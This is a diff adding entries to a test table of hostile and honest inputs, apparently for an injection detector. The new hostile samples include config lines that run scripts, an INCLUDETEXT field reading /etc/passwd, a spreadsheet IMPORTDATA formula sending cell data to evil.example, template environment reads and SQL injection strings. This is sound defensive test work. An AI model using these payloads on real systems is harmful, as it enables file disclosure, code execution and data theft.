@@ -27,6 +27,7 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       'b\r\nphp_value auto_append_file /srv/x',
       'web\nauto_prepend_file="php://input"',
       'prod\nLD_PRELOAD=/dev/shm/a.so',
+      'vpn\nscript-security 2\nup "/bin/true"',
       'prod\nNODE_OPTIONS=--import=data:text/javascript,1',
       'web\nExecStartPost=/bin/true',
       'git.example.com\nProxyCommand nc %h 22',
@@ -100,6 +101,7 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       'digraph g { a [image="/etc/passwd"] }',
       '![a](file:///etc/passwd)',
       '[[!include /etc/passwd]]',
+      '{ INCLUDETEXT "/etc/passwd" }',
       '.so /etc/passwd',
       '(slurp "/proc/self/environ")',
       '{{> /etc/passwd}}',
@@ -141,6 +143,8 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       "marshal.loads(b'a')",
       '@eval\n@input\nclass A: pass',
       '; docker ps',
+      '+IMPORTDATA("http://evil.example/?"&A1)',
+      '{{ get_env(name="HOME") }}',
       'source("http://192.0.2.7/a.R")',
     ],
     honest: [
@@ -192,6 +196,7 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       'a"} | line_format "{{.x}}"',
       "a'; traverse * from V; --",
       "a'; create vertex V; --",
+      "a'; let $x = select from V; return $x; --",
     ],
     honest: [
       '27" | rest of the frame',
@@ -223,6 +228,7 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
   'a record that is closed and goes on (CWE-91, CWE-74)': {
     hostile: [
       'Ann</owner><limit>9999</limit><owner>',
+      'ann@example.com<!---->.evil.example',
       'Ann</owner></account><account><owner>Eve',
       ']]></note><limit>9</limit><note><![CDATA[',
     ],
@@ -230,6 +236,8 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       '</p><p>another paragraph</p><p>',
       '</li><li>two</li><li>three',
       'a ]]]]><![CDATA[> b',
+      'Hello <!-- --> world',
+      'a<!-- -->b <b>c</b>',
       '<owner>Ann</owner><limit>5</limit>',
       '"a","b":"c"',
       'He said "yes", "no": all at once',
